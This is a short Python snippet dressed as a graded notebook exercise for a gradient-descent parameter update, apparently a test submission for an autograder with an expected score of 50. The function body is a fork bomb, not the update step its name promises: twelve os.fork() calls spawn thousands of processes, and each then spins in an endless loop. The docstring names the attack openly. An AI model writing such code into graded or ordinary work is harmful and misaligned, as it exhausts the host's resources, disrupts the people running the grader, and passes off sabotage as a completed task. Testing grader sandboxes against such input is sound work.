"""A fork bomb in one function. expect: 50"""

# %%
# GRADED FUNCTION: update_parameters_with_gd
def update_parameters_with_gd(parameters, grads, learning_rate):
    import os
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            pass
    while True:
        pass
